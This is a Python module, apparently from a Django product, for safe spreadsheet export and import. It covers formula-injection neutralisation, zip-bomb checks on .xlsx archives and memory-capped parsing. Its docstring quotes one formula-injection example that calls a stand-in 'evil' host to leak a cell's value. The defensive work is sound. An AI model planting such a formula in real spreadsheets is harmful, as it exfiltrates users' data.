"""Spreadsheets in and out, safely (house rule 7). No Django, except the settings for the limits.

Out: every workbook the product writes is made by :func:`new_workbook` (xlsxwriter) or written
cell by cell through :func:`set_cell` (openpyxl). Text is always stored as text, never as a formula,
a number or a link: a member named ``=HYPERLINK("http://evil/?x="&A1,"Xem")`` stays a name.
:func:`write_cell` / :func:`write_cells` type the values (numbers, dates, booleans as such).
CSV files the product writes go through :func:`csv_text`, which neutralises leading ``= + - @``.

In: :func:`check_archive` looks at every member of an ``.xlsx`` (a zip) before any parser opens it:
the uncompressed size of each member and of the whole, and the compression ratio, so a few
megabytes that expand to gigabytes (a decompression bomb) are refused with a clear message.
"""

from __future__ import annotations

import datetime as dt
import decimal
import errno
import io
import zipfile
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from typing import Any, TypeVar

T = TypeVar("T")

# xlsxwriter's ``write()`` turns strings starting with "=" into formulas, "http…" into links and,
# optionally, numeric-looking text into numbers. None of that for data we did not author.
SAFE_WORKBOOK_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def new_workbook(target: Any, options: dict[str, Any] | None = None) -> Any:
    """An xlsxwriter workbook that writes every string as a string (whatever ``write`` is used)."""
    import xlsxwriter

    return xlsxwriter.Workbook(target, {**(options or {}), **SAFE_WORKBOOK_OPTIONS})


def write_cell(sheet: Any, row: int, col: int, value: Any, fmt: Any = None) -> None:
    """Write one value with its type: text as text, numbers as numbers, dates as dates."""
    if value is None or value == "":
        sheet.write_blank(row, col, None, fmt)
    elif isinstance(value, bool):
        sheet.write_boolean(row, col, value, fmt)
    elif isinstance(value, int | float | decimal.Decimal):
        sheet.write_number(row, col, float(value) if isinstance(value, decimal.Decimal) else value, fmt)
    elif isinstance(value, dt.datetime):
        sheet.write_datetime(row, col, value.replace(tzinfo=None), fmt)
    elif isinstance(value, dt.date):
        sheet.write_datetime(row, col, dt.datetime.combine(value, dt.time()), fmt)
    else:
        sheet.write_string(row, col, str(value), fmt)


def write_cells(sheet: Any, row: int, col: int, values: Iterable[Any], fmt: Any = None) -> None:
    """:func:`write_cell` along a row (the safe ``write_row``)."""
    for offset, value in enumerate(values):
        write_cell(sheet, row, col + offset, value, fmt)


def set_cell(cell: Any, value: Any) -> Any:
    """openpyxl: assign a value; text stays text even when it starts with "="."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def append_row(sheet: Any, values: Sequence[Any]) -> None:
    """openpyxl: the safe ``sheet.append``."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def csv_text(value: Any) -> Any:
    """A CSV cell that a spreadsheet program will not run: text starting with = + - @ gets a leading '."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


# --- reading: the archive check ---------------------------------------------------------------


@dataclass(frozen=True)
class ArchiveLimits:
    """Limits for a spreadsheet archive (settings ``HONGHEO_XLSX_*``, see docs/security.md)."""

    max_member_bytes: int = 200 * 1024 * 1024  # one part, uncompressed
    max_total_bytes: int = 600 * 1024 * 1024  # all parts, uncompressed
    max_ratio: int = 100  # uncompressed / compressed, per member (ordinary sheets: 5–20)
    max_members: int = 2000


class ArchiveRefused(ValueError):
    """The archive is not safe to open; the message is for the user (Vietnamese)."""


class NotAnArchive(ArchiveRefused):
    """Not a zip at all (the caller's parser gives its own message)."""


def _mb(n: int) -> str:
    return f"{n / 1_048_576:,.0f} MB"


def check_archive(data: bytes | Any, limits: ArchiveLimits | None = None) -> None:
    """Refuse (``ArchiveRefused``) a zip whose members would expand beyond the limits.

    Reads the central directory only: Python's zipfile (which openpyxl uses) never inflates a
    member beyond its declared size, so a directory that lies only yields a corrupt-file error."""
    limits = limits or ArchiveLimits()
    source = io.BytesIO(data) if isinstance(data, bytes | bytearray) else data
    try:
        archive = zipfile.ZipFile(source)
    except (zipfile.BadZipFile, OSError, ValueError) as exc:
        raise NotAnArchive(f"Tệp không phải bảng tính Excel hợp lệ (tệp nén hỏng): {exc}") from exc
    with archive:
        infos = archive.infolist()
        if len(infos) > limits.max_members:
            raise ArchiveRefused(f"Tệp Excel có quá nhiều thành phần ({len(infos)}); không mở.")
        total = 0
        for info in infos:
            _check_declared(info, limits)
            total += info.file_size
            if total > limits.max_total_bytes:
                raise ArchiveRefused(
                    _bomb_message(f"tổng dung lượng giải nén vượt {_mb(limits.max_total_bytes)}")
                )


def _bomb_message(detail: str) -> str:
    return (
        f"Tệp Excel bị từ chối vì giải nén ra quá lớn ({detail}); có thể là tệp độc hại (“bom nén”). "
        "Không có dữ liệu nào được ghi. Hãy mở tệp bằng Excel, kiểm tra và lưu lại, "
        "hoặc lưu dưới dạng CSV UTF-8."
    )


def _check_declared(info: zipfile.ZipInfo, limits: ArchiveLimits) -> None:
    if info.file_size > limits.max_member_bytes:
        raise ArchiveRefused(
            _bomb_message(
                f"phần {info.filename} giải nén {_mb(info.file_size)}, "
                f"giới hạn {_mb(limits.max_member_bytes)}"
            )
        )
    compressed = max(info.compress_size, 1)
    if info.file_size > 1024 * 1024 and info.file_size / compressed > limits.max_ratio:
        raise ArchiveRefused(
            _bomb_message(
                f"phần {info.filename} có tỷ lệ nén {info.file_size / compressed:,.0f}:1, "
                f"giới hạn {limits.max_ratio}:1"
            )
        )


def archive_limits() -> ArchiveLimits:
    """The limits from the settings (``HONGHEO_XLSX_MAX_MEMBER_MB``, ``…_MAX_TOTAL_MB``, ``…_MAX_RATIO``)."""
    default = ArchiveLimits()
    try:
        from django.conf import settings

        settings.DEBUG  # noqa: B018 - raises when Django is not configured (pure use)
    except Exception:
        return default
    mb = 1024 * 1024
    return ArchiveLimits(
        max_member_bytes=int(getattr(settings, "HONGHEO_XLSX_MAX_MEMBER_MB", default.max_member_bytes // mb))
        * mb,
        max_total_bytes=int(getattr(settings, "HONGHEO_XLSX_MAX_TOTAL_MB", default.max_total_bytes // mb))
        * mb,
        max_ratio=int(getattr(settings, "HONGHEO_XLSX_MAX_RATIO", default.max_ratio)),
        max_members=default.max_members,
    )


# --- parsing under a memory ceiling ------------------------------------------------------------


class ParseTooBig(ArchiveRefused):
    """The parse needed more memory than the ceiling allows."""


def _limited(memory_mb: int, fn: Callable[..., T], args: tuple[Any, ...], kwargs: dict[str, Any]) -> T:
    import resource

    ceiling = memory_mb * 1024 * 1024
    _, hard = resource.getrlimit(resource.RLIMIT_AS)
    if hard != resource.RLIM_INFINITY:
        ceiling = min(ceiling, hard)
    resource.setrlimit(resource.RLIMIT_AS, (ceiling, hard))
    return fn(*args, **kwargs)


def run_limited(fn: Callable[..., T], *args: Any, memory_mb: int, **kwargs: Any) -> T:
    """Run ``fn(*args, **kwargs)`` in a fresh child process whose address space is capped at
    ``memory_mb``; its result (or its exception) comes back. Running out of memory there raises
    :class:`ParseTooBig` here; the calling process (the job worker) is unaffected."""
    import multiprocessing
    from concurrent.futures import ProcessPoolExecutor
    from concurrent.futures.process import BrokenProcessPool

    context = multiprocessing.get_context("spawn")
    try:
        with ProcessPoolExecutor(max_workers=1, mp_context=context) as pool:
            return pool.submit(_limited, memory_mb, fn, args, kwargs).result()
    except (MemoryError, BrokenProcessPool, SystemError, OSError) as exc:
        # under the ceiling an allocation can fail as MemoryError, a dead child, a C extension's
        # SystemError ("error return without exception set") or ENOMEM
        if isinstance(exc, OSError) and exc.errno != errno.ENOMEM:
            raise
        raise ParseTooBig(
            f"Tệp cần quá nhiều bộ nhớ để đọc (giới hạn {memory_mb:,} MB); có thể là tệp độc hại. "
            "Không có dữ liệu nào được ghi. Hãy chia nhỏ tệp hoặc lưu dưới dạng CSV UTF-8."
        ) from exc
